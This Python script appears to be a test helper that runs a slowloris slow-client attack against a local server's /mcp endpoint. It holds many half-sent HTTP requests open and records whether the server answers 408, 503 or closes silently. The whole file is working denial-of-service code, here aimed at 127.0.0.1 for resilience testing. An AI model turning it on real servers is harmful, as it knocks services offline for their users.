"""A slow-client attacker, as its own process: ``python slowloris.py PORT CONNECTIONS SECONDS``.

It keeps CONNECTIONS sockets open to 127.0.0.1:PORT, each holding half a request line (the
request never finishes), and opens a new one whenever the server closes one, for SECONDS. Then it
prints what happened as one JSON object: how many connections it opened, how many the server
closed, with which answer (a 408 or 503 status line, or none), and the most it held at once.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time

HALF_A_REQUEST = b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Ty"


async def attack(port: int, connections: int, seconds: float) -> dict[str, int]:
    counts = {"opened": 0, "refused_to_connect": 0, "closed": 0, "408": 0, "503": 0, "closed_silently": 0}
    held = 0
    most_held = 0
    deadline = time.monotonic() + seconds

    async def one() -> None:
        nonlocal held, most_held
        while time.monotonic() < deadline:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
            except (OSError, TimeoutError):
                counts["refused_to_connect"] += 1
                await asyncio.sleep(0.1)
                continue
            counts["opened"] += 1
            held += 1
            most_held = max(most_held, held)
            try:
                writer.write(HALF_A_REQUEST)
                answer = await asyncio.wait_for(reader.read(64), max(0.0, deadline - time.monotonic()))
                counts["closed"] += 1
                status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/1.1 ") else ""
                counts[status if status in ("408", "503") else "closed_silently"] += 1
            except (OSError, TimeoutError):
                pass
            finally:
                held -= 1
                writer.close()

    await asyncio.gather(*(one() for _ in range(connections)))
    return {**counts, "most_held": most_held}


if __name__ == "__main__":
    port, connections, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    print(json.dumps(asyncio.run(attack(port, connections, seconds))), flush=True)
